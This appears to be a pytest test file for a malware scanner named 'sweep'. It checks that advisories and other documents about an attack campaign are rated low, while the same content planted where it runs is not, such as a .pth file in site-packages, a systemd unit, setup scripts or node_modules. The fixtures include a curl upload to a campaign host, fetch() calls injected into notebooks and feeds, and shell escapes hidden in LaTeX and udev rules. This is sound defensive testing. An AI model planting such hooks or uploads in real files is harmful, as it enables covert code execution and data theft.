# SPDX-License-Identifier: Apache-2.0
"""Honest documents that speak of the campaign stay at low or below, whatever they quote; and the
same words in what runs where it lies are not lowered.

What the rules say of clean software is in docs/precision.md (tests/tools/precision.py)."""

import json
import os

import documents
import pytest
import sweep
from documents import CODE, DOCUMENTS, HEADER, HOSTS, KEY, KEY2, MARKER, PTH, UNIT, UPLOAD

LOWERED = {"low", "info"}


def findings_of(tree, *args):
    """{path below the tree: findings}"""
    found = {}
    for finding in sweep.scan("--exposure", "off", *args, tree).findings:
        found.setdefault(os.path.relpath(finding["object"]["path"], tree), []).append(finding)
    return found


def write(tree, name, text, mode=0o644):
    path = tree / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    path.chmod(mode)
    return path


def loud(findings):
    return [(f["rule"]["name"], f["severity"], f["severity_reason"]) for f in findings
            if f["severity"] not in LOWERED]


@pytest.fixture(scope="module")
def documented(tmp_path_factory):
    """What was found in each of the documents, of one sweep."""
    tree = tmp_path_factory.mktemp("documents")
    for name, make in DOCUMENTS.items():
        write(tree, name, make())
    return findings_of(tree)


def test_there_are_enough_kinds_of_documents():
    assert len(DOCUMENTS) >= 24


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_document_is_low_at_most(documented, name):
    found = documented.get(name, [])
    assert found, "nothing in it was found: the test would show nothing"
    assert any(f["rule_severity"] not in LOWERED for f in found), "nothing had to be lowered"
    assert not loud(found)


def test_names_say_nothing(tree):
    """The same documents under names that nobody has a habit of."""
    kinds = [name for name in DOCUMENTS
             if name.rpartition(".")[2] not in ("patch", "ipynb", "toml", "yml", "yaml")]
    for number, name in enumerate(kinds):
        write(tree, f"d{number}", DOCUMENTS[name]())
    assert not {kinds[int(path[1:])]: loud(found) for path, found in findings_of(tree).items()
                if loud(found)}


def test_with_an_execute_bit_no_document_is_lowered(tree):
    for number, make in enumerate(DOCUMENTS.values()):
        write(tree, f"d{number}", make(), 0o755)
    found = findings_of(tree)
    assert len(found) == len(DOCUMENTS)
    assert not [path for path, all_of in found.items() for f in all_of
                if f["severity"] != f["rule_severity"]]


# The same content where it would run: not one finding of it is lowered.
BODY = "\n".join([*CODE, f'KEY = """{KEY}\n{KEY2}"""', UPLOAD, f"## {MARKER}"]) + "\n"
SHELL = f"#!/bin/sh\n{UPLOAD}\ncat <<E\n{KEY}\n{KEY2}\nE\n"
RUNNING = {
    "venv/lib/python3.11/site-packages/litellm_init.pth": (PTH, 0o644),
    "etc/systemd/system/telemetry.service": (
        "[Unit]\n" + "\n".join(UNIT[:2]) + "\n[Service]\n" + "\n".join(UNIT[2:6]) + "\n[Install]\n"
        + UNIT[6] + "\n", 0o644),
    "usr/local/bin/setup.sh": (SHELL, 0o755),
    "srv/setup": (SHELL, 0o755),
    "srv/plain": (SHELL, 0o644),
    "srv/tool.py": (BODY, 0o644),
    "srv/docs/README.py": (documents.blog(), 0o644),
    "app/node_modules/x/index.js": ("\n".join(f'const h{n} = "{host}";' for n, host in
                                             enumerate(HOSTS)) + f'\n// {MARKER}\n', 0o644),
    "app/node_modules/x/README.js": (documents.blog(), 0o644),
    "etc/cron.d/notes.md": (documents.blog(), 0o644),
    "etc/profile.d/story.txt": (documents.news(), 0o644),
    "etc/kubernetes/manifests/x.yaml": ("\n".join(documents.DAEMONSET) + "\n", 0o644),
}


@pytest.fixture(scope="module")
def running(tmp_path_factory):
    tree = tmp_path_factory.mktemp("running")
    for name, (text, mode) in RUNNING.items():
        write(tree, name, text, mode)
    return findings_of(tree)


@pytest.mark.parametrize("name", RUNNING)
def test_what_runs_where_it_lies_is_not_lowered(running, name):
    found = running.get(name, [])
    assert loud(found), "nothing in it was found"
    assert not [f["rule"]["name"] for f in found if f["severity"] != f["rule_severity"]]


# Documents into which code was put: each has a part that something would run.
def in_a_cell():
    book = json.loads(documents.notebook())
    book["cells"][1]["source"] = [f"{line}\n" for line in CODE]
    return json.dumps(book)


def in_an_output():
    book = json.loads(documents.notebook())
    book["cells"][1]["outputs"][0] = {
        "output_type": "display_data", "metadata": {},
        "data": {"application/javascript": [f"fetch('https://{HOSTS[0]}/')"]}}
    return json.dumps(book)


def patch_of(name, mode="100644"):
    return documents.advisory_patch().replace("advisories/two.md", name).replace(
        "file mode 100644", f"file mode {mode}")


def code_patch():
    lines = [f"+{line}\n" for line in CODE]
    return ("diff --git a/notes b/notes\n--- a/notes\n+++ b/notes\n@@ -0,0 +1,"
            f"{len(lines)} @@\n" + "".join(lines))


DISGUISED = {
    "a.ipynb": in_a_cell,
    "b.ipynb": in_an_output,
    "twice.ipynb": lambda: documents.notebook().replace(
        '"cell_type": "code"', '"cell_type": "markdown", "cell_type": "code"').replace(
        "import pandas", CODE[0]),
    "to-code.patch": lambda: patch_of("setup.py"),
    "to-unit.patch": lambda: patch_of("debian/x.service"),
    "to-executable.patch": lambda: patch_of("notes", "100755"),
    "code.patch": code_patch,
    "header.patch": lambda: documents.advisory_patch().replace(
        "index 0000000..1234567", "index 0; " + UPLOAD),
    "hosts": lambda: documents.hosts_file().replace(f"0.0.0.0 {HOSTS[0]}", f"192.0.2.1 {HOSTS[0]}"),
    "filter.txt": lambda: documents.block_list() + f"! Title; {UPLOAD}\n",
    "app.conf": lambda: f"[upload]\nhost = {HOSTS[0]}\nevery = 3000\n",
    "local.rules": lambda: documents.suricata() + f'KERNEL=="sda", RUN+="{UPLOAD}"\n',
    "query.kql": lambda: documents.query().replace("let hosts", f"{UPLOAD};\nlet hosts"),
    "rule.toml": lambda: documents.detection_toml() + f'\n[tool.run]\ncommand = "{UPLOAD}"\n',
    "analytics.yaml": lambda: documents.analytics_rule() + f"steps:\n- run: {UPLOAD}\n",
    "chat.json": lambda: json.dumps([*json.loads(documents.slack()), {"command": UPLOAD}]),
    "bom.json": lambda: json.dumps({**json.loads(documents.sbom()), "scripts": {"x": UPLOAD}}),
    "cases.json": lambda: json.dumps([*json.loads(documents.fixture()), "import x"]),
    "feed.xml": lambda: documents.feed().replace(
        "<channel>", f"<channel><script>fetch('https://{HOSTS[0]}')</script>"),
    "styled.xml": lambda: documents.feed().replace(
        "?>\n", "?>\n<?xml-stylesheet href=\"x.xsl\"?>\n", 1),
    "build.xml": lambda: documents.feed().replace("rss", "project"),
    "two.tex": lambda: documents.latex().replace("\\maketitle", "\\immediate\\write18{x}"),
    "sh.tex": lambda: documents.latex().replace("\\maketitle", f"\\{UPLOAD}"),
    "two.adoc": lambda: documents.asciidoc() + f"\n{UPLOAD}\n",
    "open.org": lambda: documents.org().replace("#+END_SRC", "#+end_of_it"),
    "man.1": lambda: documents.manual().replace(".SH NAME\n", f".SH NAME\n{UPLOAD}\n"),
    "list.mbox": lambda: documents.mailing_list() + f"{UPLOAD}\n",
}


@pytest.fixture(scope="module")
def disguised(tmp_path_factory):
    tree = tmp_path_factory.mktemp("disguised")
    for name, make in DISGUISED.items():
        write(tree, name, make())
    return findings_of(tree)


@pytest.mark.parametrize("name", DISGUISED)
def test_code_in_a_document_is_not_lowered(disguised, name):
    assert loud(disguised.get(name, []))


@pytest.mark.parametrize("form", ["jsonl", "json"])
def test_a_report_of_the_last_sweep_is_low_at_most(tree, place, form):
    for name, (text, mode) in RUNNING.items():
        write(place / "bad", name, text, mode)
    report = tree / f"last.{form}"
    first = sweep.run(["scan", "--exposure", "off", "-o", f"{form}={report}", place / "bad"],
                      records=False)
    assert first.code == sweep.EXIT_FINDINGS
    found = findings_of(tree).get(report.name, [])
    assert found and not loud(found)


def test_long_lists_of_digests_are_no_gap(tree):
    """Of a package with many files; each of its lines looks like something encoded."""
    rows = [f"{n:032x}"[::-1] for n in range(10**30, 10**30 + 5000)]
    write(tree, "var/lib/dpkg/info/big.md5sums",
          "".join(f"{row}  usr/share/big/{row}/file\n" for row in rows))
    write(tree, "lib/python3/site-packages/big-1.0.dist-info/RECORD",
          "".join(f"big/{row}.py,sha256={row}abcdefghijk,17\n" for row in rows))
    result = sweep.scan(tree)
    assert not result.gaps and result.code == sweep.EXIT_CLEAN


def test_the_header_alone_is_enough_to_be_found(tree):
    """The control of the controls: a script with nothing but the upload."""
    write(tree, "up.sh", f"curl -H '{HEADER}' https://{HOSTS[0]}/\n")
    assert loud(findings_of(tree)["up.sh"])
